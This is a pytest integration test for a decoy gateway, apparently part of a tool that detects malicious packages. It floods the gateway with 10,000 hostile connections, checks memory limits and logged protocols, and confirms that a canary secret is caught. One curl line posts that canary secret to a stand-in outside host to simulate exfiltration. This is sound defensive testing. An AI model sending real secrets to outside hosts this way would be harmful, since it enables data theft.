"""Ten thousand connections of every conversation, slow clients, deaf ones and liars: the gateway lives, in little
memory, and what comes after them is answered and searched."""

from __future__ import annotations

import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from package_hunter.decoy.gateway import Gateway
from tests.support.netpair import NetPair
from tests.support.played import CANARIES
from tests.support.requires import ROOT

CONNECTIONS = 10_000
MEMORY = 400 << 20  # bytes of gateway and talker together, at most
_TALKER = b"package_hunter.decoy.talks.process"


def _most(pid: int) -> int:
    """The most memory that a process ever had, in bytes."""
    status = Path(f"/proc/{pid}/status").read_text()
    return next(int(line.split()[1]) << 10 for line in status.splitlines() if line.startswith("VmHWM"))


def _talkers() -> set[int]:
    found = set()
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if _TALKER in (folder / "cmdline").read_bytes():
                found.add(int(folder.name))
        except OSError:
            continue
    return found


def test_nothing_hostile_ends_the_gateway_or_fills_it(
    pair: NetPair, gateway: Callable[..., Gateway], capsys: pytest.CaptureFixture[str]
) -> None:
    before = _talkers()
    g = gateway()
    started = time.monotonic()
    program = ROOT / "tests/integration/decoy/hostile.py"
    done = pair.run(f"ulimit -n 4096; {sys.executable} {program} {CONNECTIONS}", timeout=250)
    took = time.monotonic() - started
    assert done.returncode == 0, done.stderr
    env = {"CURL_CA_BUNDLE": str(g.names_path.parent / "ca.pem")}
    secret = CANARIES[0].value
    after = pair.run(f"curl -sS -m 30 -d {secret} https://after.example/ok", env)
    assert after.returncode == 0, after.stderr
    (talker,) = _talkers() - before
    memory = {"gateway": _most(g.pid), "talker": _most(talker)}
    log = g.stop()
    with capsys.disabled():
        shown = ", ".join(f"{name} {size >> 20} MiB" for name, size in memory.items())
        print(f"\n{CONNECTIONS} connections in {took:.1f} s; at most {shown}; {log.cut}")
    assert {hit.canary for hit in log.hits} == {CANARIES[0].id}
    assert sum(memory.values()) < MEMORY
    assert "gateway_errors" not in log.cut and "gateway_failed" not in log.cut
    kinds = {connection.kind for connection in log.connections}
    talks = {
        "ssh",
        "smtp",
        "imap",
        "pop3",
        "ftp",
        "ldap",
        "smb",
        "redis",
        "mongo",
        "postgres",
        "mysql",
        "mqtt",
        "h2",
    }
    assert talks <= kinds
